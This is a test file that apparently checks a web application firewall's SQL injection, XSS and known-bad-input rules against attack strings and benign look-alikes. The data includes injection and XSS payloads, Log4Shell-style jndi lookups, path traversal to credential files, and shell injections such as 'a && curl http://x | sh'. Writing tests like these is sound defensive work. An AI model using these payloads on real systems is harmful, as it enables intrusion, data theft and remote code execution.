import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { WafRequest } from '../../src/waf/request.js';
import { managedAcl, requestFor } from './corpus-data.js';

/**
 * Cases of our own, beside the shared corpus: realistic API parameter values that must pass, and
 * attack shapes (including encodings the corpus has few of) that must be blocked at LOW.
 */
const ATTACKS: [string, string][] = [
  ['sqli', "' OR 1=1 -- "],
  ['sqli', "admin'--"],
  ['sqli', '1 UNION ALL SELECT NULL,NULL,version()--'],
  ['sqli', '1; DROP TABLE users'],
  ['sqli', "x'; WAITFOR DELAY '0:0:5'--"],
  ['sqli', '1 AND SLEEP(5)'],
  ['sqli', "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"],
  ['sqli', '1/**/UNION/**/SELECT/**/password/**/FROM/**/users'],
  ['sqli', '1 /*!50000UNION*/ /*!50000SELECT*/ 1,2'],
  ['sqli', "') or ('a'='a"],
  ['sqli', '-1 OR 2>1'],
  ['sqli', '1’ OR ’1’=’1'],
  ['sqli', 'name=x%27%20UNION%20SELECT%201--'],
  ['sqli', 'SELECT * FROM information_schema.tables'],
  ['xss', '<script>alert(document.cookie)</script>'],
  ['xss', '<img src=x onerror=alert(1)>'],
  ['xss', '"><svg/onload=confirm(1)>'],
  ['xss', "javascript:alert('x')"],
  ['xss', ' JaVaScRiPt:alert(1)'],
  ['xss', '&lt;iframe src=javascript:alert(1)&gt;'],
  ['xss', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
  ['xss', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['xss', '<body onload=alert(1)>'],
  ['xss', "'-alert(1)-'"],
  ['xss', '<details open ontoggle=alert(1)>'],
  ['xss', '＜script＞alert(1)＜/script＞'],
  ['xss', '&#x3c;'],
  ['xss', '?goto,javascript:alert(1)'],
];

const BENIGN = [
  "O'Brien",
  "D'Angelo-Smith, Marie",
  "it's 5 o'clock; let's go",
  'Rock & Roll <3',
  'a < b > c',
  'select the best option from the list',
  'Union Square, San Francisco',
  'DROP-OFF POINT #3',
  '{"order":"desc","limit":25}',
  'SELECT a seat',
  'https://example.com/path?q=1&r=2',
  'The answer is 1=1, obviously',
  'price <= 100 and rating >= 4',
  '2024-05-01T10:00:00Z',
  'user@example.com',
  'if (a && b) { return c; }',
  'Q&A: what is "or" in logic?',
  'She said "hello" -- then left.',
  'C:\\Users\\me\\Documents',
  'email me at <jane@example.com>',
  'onboarding=true',
  '5\' 11" tall',
  "Let's meet at 'The Union' pub",
  'the <b>bold</b> claim',
  "Grant Ann access to the drive, but don't let her delete anything.",
  ' OR maybe not',
];

describe('own cases through the managed SQLi and XSS groups (LOW)', () => {
  const acl = managedAcl(['PorticoSQLiRuleSet', 'PorticoXSSRuleSet'], 'LOW');
  for (const [kind, text] of ATTACKS) {
    test(`blocks ${kind}: ${JSON.stringify(text)}`, () => {
      const r = acl.evaluate(requestFor(text), 0).result;
      assert.equal(r.action, 'BLOCK');
      assert.match(r.terminatingRuleId, kind === 'sqli' ? /SQLi/ : /XSS/);
    });
  }
  for (const text of BENIGN) {
    test(`passes ${JSON.stringify(text)}`, () => {
      const r = acl.evaluate(requestFor(text), 0).result;
      assert.equal(r.action, 'ALLOW', `matched ${r.ruleIds.join(', ')}`);
    });
  }
});

describe('known bad inputs group', () => {
  const acl = managedAcl(['PorticoKnownBadInputsRuleSet'], 'LOW');
  const cases: [string, boolean][] = [
    ['${jndi:ldap://x.example/a}', true],
    ['${${lower:j}ndi:dns://x}', true],
    ['%24%7Bjndi%3Armi%3A%2F%2Fx%7D', true],
    ['../../../../etc/passwd', true],
    ['..\\..\\windows\\win.ini', true],
    ['report-2024..pdf', false],
    ['$5 off; limited', false],
    ['x; cat /etc/shadow', true],
    ['a && curl http://x | sh', true],
    ['$(whoami)', true],
    ['rock & roll', false],
  ];
  for (const [text, blocked] of cases) {
    test(`${blocked ? 'blocks' : 'passes'} ${JSON.stringify(text)}`, () => {
      assert.equal(acl.evaluate(requestFor(text), 0).result.action, blocked ? 'BLOCK' : 'ALLOW');
    });
  }
  test('command parameters: any shell metacharacter', () => {
    const r = (q: string) =>
      acl.evaluate(new WafRequest({ method: 'GET', uriPath: '/', queryString: q }), 0).result.action;
    assert.equal(r('cmd=ls%7Cnc'), 'BLOCK');
    assert.equal(r('name=a%7Cb'), 'ALLOW');
  });
  test('exploitable paths and PROPFIND', () => {
    assert.equal(
      acl.evaluate(new WafRequest({ method: 'GET', uriPath: '/app/.git/config' }), 0).result.action,
      'BLOCK',
    );
    assert.equal(
      acl.evaluate(new WafRequest({ method: 'GET', uriPath: '/WEB-INF/web.xml' }), 0).result.action,
      'BLOCK',
    );
    assert.equal(acl.evaluate(new WafRequest({ method: 'PROPFIND', uriPath: '/' }), 0).result.action, 'BLOCK');
    assert.equal(acl.evaluate(new WafRequest({ method: 'GET', uriPath: '/gitlab/env' }), 0).result.action, 'ALLOW');
  });
});
